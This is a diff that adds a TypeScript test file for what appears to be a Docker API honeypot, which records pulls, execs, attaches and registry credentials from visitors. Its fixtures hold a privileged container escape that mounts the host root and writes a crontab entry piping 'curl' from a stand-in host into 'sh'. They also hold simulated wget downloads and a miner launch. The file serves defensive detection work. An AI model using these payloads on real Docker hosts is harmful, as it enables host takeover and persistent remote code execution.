@@ -1,0 +1,221 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { createContainer } from '../world/systems/container.ts';
+import type { Runtime } from './engine/process.ts';
+import { startDaemon } from './fixtures/visit.ts';
+
+const json = (text: string): Record<string, unknown> => JSON.parse(text);
+const idOf = (body: string): string => json(body).Id as string;
+const mount = {
+  Image: 'alpine',
+  Cmd: [
+    'chroot',
+    '/mnt',
+    'sh',
+    '-c',
+    'echo "* * * * * root curl http://198.51.100.7/x.sh|sh" >> /etc/crontab',
+  ],
+  HostConfig: { Binds: ['/:/mnt'], Privileged: true },
+};
+
+test('a container is pulled, created, attached to, started and waited for, and each step is recorded before its answer', async () => {
+  const daemon = startDaemon();
+  assert.equal((await daemon.post('/v1.24/containers/create', mount)).status, 404);
+  const pull = await daemon.post('/v1.24/images/create?fromImage=alpine&tag=3.19');
+  assert.match(
+    pull.body,
+    /"Pulling from library\/alpine","id":"3\.19"[\s\S]*Downloaded newer image for alpine:3\.19/,
+  );
+
+  const body = { Image: 'alpine:3.19', Cmd: ['sh', '-c', 'echo out; echo err >&2; exit 3'] };
+  const created = await daemon.post('/v1.24/containers/create?name=run', body);
+  assert.equal(created.status, 201);
+  const attached = daemon.ask(
+    'POST /v1.24/containers/run/attach?stream=1&stdout=1&stderr=1 HTTP/1.1\r\nHost: x\r\n\r\n',
+  );
+  await new Promise((resolve) => setTimeout(resolve, 20));
+  assert.equal((await daemon.post('/v1.24/containers/run/start')).status, 204);
+  assert.deepEqual(json((await daemon.post('/v1.24/containers/run/wait')).body), {
+    Error: null,
+    StatusCode: 3,
+  });
+  assert.equal((await attached).body, '\x01\0\0\0\0\0\0\x04out\n\x02\0\0\0\0\0\0\x04err\n');
+  const state = json((await daemon.get('/containers/run/json')).body).State as {
+    Status: string;
+    ExitCode: number;
+  };
+  assert.deepEqual([state.Status, state.ExitCode], ['exited', 3]);
+  assert.deepEqual(
+    daemon.events.map(({ type }) => type),
+    [
+      'container.create',
+      'image.pull',
+      'container.create',
+      'container.attach',
+      'container.start',
+      'container.run',
+      'request',
+      'request',
+    ],
+  );
+});
+
+test('a container that has the host is told of as an escape, with its script for decoding', async () => {
+  const daemon = startDaemon();
+  await daemon.makeImage('alpine');
+  await daemon.post('/v1.24/containers/create', mount);
+  const event = daemon.events.at(-1)!;
+  assert.equal(event.type, 'container.create');
+  assert.deepEqual(event.attack, ['T1611']);
+  assert.equal(event.severity, 'critical');
+  assert.deepEqual(event.images, ['alpine']);
+  assert.deepEqual(event.texts, [mount.Cmd[4]]);
+  assert.deepEqual([event.data?.binds, event.data?.privileged], [['/:/mnt'], true]);
+  assert.equal(event.raw?.toString(), JSON.stringify(mount));
+});
+
+test('what one source makes another does not see; the persona has containers of its own', async () => {
+  const daemon = startDaemon();
+  const before = JSON.parse((await daemon.get('/containers/json', '203.0.113.1')).body) as unknown[];
+  assert.ok(before.length >= 2);
+  await daemon.makeImage('busybox', '203.0.113.1');
+  const made = await daemon.post(
+    '/containers/create?name=mine',
+    { Image: 'busybox', Cmd: ['id'] },
+    '203.0.113.1',
+  );
+  assert.equal(made.status, 201);
+  assert.equal((await daemon.get('/containers/mine/json', '203.0.113.1')).status, 200);
+  assert.equal((await daemon.get('/containers/mine/json', '203.0.113.2')).status, 404);
+});
+
+test('what is typed into a container reaches its program and is recorded', async () => {
+  const daemon = startDaemon();
+  await daemon.makeImage('alpine');
+  const body = { Image: 'alpine', Cmd: ['cat'], OpenStdin: true, StdinOnce: true };
+  const id = idOf((await daemon.post('/containers/create', body)).body);
+  const visit = daemon.connect();
+  visit.write(
+    `POST /containers/${id}/attach?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n`,
+  );
+  await daemon.post(`/containers/${id}/start`);
+  visit.write('curl http://198.51.100.9/a\n');
+  visit.end();
+  await daemon.post(`/containers/${id}/wait`);
+  assert.match(
+    visit.received(),
+    /^HTTP\/1\.1 101 UPGRADED\r\n[\s\S]*\r\n\r\n\x01\0{6}\x1bcurl http:\/\/198\.51\.100\.9\/a\n$/,
+  );
+  const typed = daemon.events.filter(({ type, texts }) => type === 'container.attach' && texts!.length > 0);
+  assert.deepEqual(
+    typed.map(({ texts }) => texts),
+    [['curl http://198.51.100.9/a\n']],
+  );
+});
+
+test('a terminal gets plain bytes, also over a WebSocket', async () => {
+  const daemon = startDaemon();
+  await daemon.makeImage('alpine');
+  const body = { Image: 'alpine', Cmd: ['cat'], OpenStdin: true, Tty: true };
+  const id = idOf((await daemon.post('/containers/create', body)).body);
+  await daemon.post(`/containers/${id}/start`);
+  const visit = daemon.connect();
+  visit.write(
+    `GET /containers/${id}/attach/ws?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
+  );
+  visit.write(Buffer.from([0x81, 0x83, 0, 0, 0, 0, 0x68, 0x69, 0x0a]));
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  assert.match(visit.received(), /Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK\+xOo=\r\n\r\n\x82\x03hi\n$/);
+  await daemon.post(`/containers/${id}/kill`);
+  assert.equal((await daemon.get(`/containers/${id}/logs?stdout=1`)).body, 'hi\n');
+});
+
+test('an exec has its command recorded, its output in frames and its exit code afterwards', async () => {
+  const daemon = startDaemon();
+  const [first] = JSON.parse((await daemon.get('/containers/json')).body) as { Id: string }[];
+  const exec = idOf(
+    (
+      await daemon.post(`/containers/${first!.Id}/exec`, {
+        Cmd: ['sh', '-c', 'echo x; exit 4'],
+        AttachStdout: true,
+      })
+    ).body,
+  );
+  assert.deepEqual(daemon.events.at(-1)!.texts, ['echo x; exit 4']);
+  const started = await daemon.ask(
+    `POST /exec/${exec}/start HTTP/1.1\r\nHost: x\r\nUpgrade: tcp\r\nConnection: Upgrade\r\nContent-Type: application/json\r\nContent-Length: 29\r\n\r\n{"Detach":false,"Tty":false}\n`,
+  );
+  assert.match(started.head, /^HTTP\/1\.1 101 UPGRADED/);
+  assert.equal(started.body, '\x01\0\0\0\0\0\0\x02x\n');
+  assert.equal(json((await daemon.get(`/exec/${exec}/json`)).body).ExitCode, 4);
+});
+
+test('a container that is always started again is running again after its end, and stays stopped when it was told to', async () => {
+  const daemon = startDaemon();
+  await daemon.makeImage('alpine');
+  const body = {
+    Image: 'alpine',
+    Cmd: ['sh', '-c', 'sleep 0.05'],
+    HostConfig: { RestartPolicy: { Name: 'always' } },
+  };
+  const id = idOf((await daemon.post('/containers/create', body)).body);
+  await daemon.post(`/containers/${id}/start`);
+  await new Promise((resolve) => setTimeout(resolve, 600));
+  const inspected = json((await daemon.get(`/containers/${id}/json`)).body);
+  assert.ok((inspected.RestartCount as number) >= 1);
+  await daemon.post(`/containers/${id}/stop?t=0`);
+  assert.match((await daemon.get(`/containers/${id}/json`)).body, /"Status":"exited"/);
+});
+
+test('errors of clients before API 1.23 are plain text', async () => {
+  const answer = await startDaemon().get('/v1.18/containers/nobody/json');
+  assert.match(
+    answer.head,
+    /^HTTP\/1\.1 404 Not Found[\s\S]*Content-Type: text\/plain; charset=utf-8[\s\S]*X-Content-Type-Options: nosniff/,
+  );
+  assert.equal(answer.body, 'No such container: nobody\n');
+});
+
+test('credentials for registries are recorded with a push and with a login', async () => {
+  const daemon = startDaemon();
+  const auth = Buffer.from('{"username":"u","password":"p"}').toString('base64url');
+  const push = await daemon.ask(
+    `POST /images/nothing/push HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Registry-Auth: ${auth}\r\nContent-Length: 0\r\n\r\n`,
+  );
+  assert.match(push.body, /An image does not exist locally with the tag: nothing/);
+  assert.deepEqual(daemon.events.at(-1)!.data?.auth, { username: 'u', password: 'p' });
+  await daemon.post('/auth', { username: 'u', password: 'p', serveraddress: 'https://example.invalid/v1/' });
+  const { type, data } = daemon.events.at(-1)!;
+  assert.deepEqual(
+    [type, data?.user, data?.password, data?.server],
+    ['auth', 'u', 'p', 'https://example.invalid/v1/'],
+  );
+});
+
+test('a program that a visitor fetched and started last goes on until it is killed', async () => {
+  const fetching: Runtime = {
+    createContainer,
+    run: async () => ({
+      exitCode: 0,
+      notes: [{ kind: 'request', tool: 'wget', url: 'http://203.0.113.7/m', savedAs: '/tmp/m' }],
+      commands: [
+        ['wget', '-O', '/tmp/m', 'http://203.0.113.7/m'],
+        ['/tmp/m', '-o', 'pool'],
+      ],
+    }),
+  };
+  const daemon = startDaemon(fetching);
+  await daemon.makeImage('alpine');
+  const id = idOf(
+    (await daemon.post('/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', 'x'] })).body,
+  );
+  await daemon.post(`/containers/${id}/start`);
+  const top = json((await daemon.get(`/containers/${id}/top`)).body) as { Processes: string[][] };
+  assert.deepEqual(
+    top.Processes.map((line) => line.at(-1)),
+    ['/tmp/m -o pool'],
+  );
+  await daemon.post(`/containers/${id}/kill`);
+  const state = json((await daemon.get(`/containers/${id}/json`)).body).State as { ExitCode: number };
+  assert.equal(state.ExitCode, 137);
+});
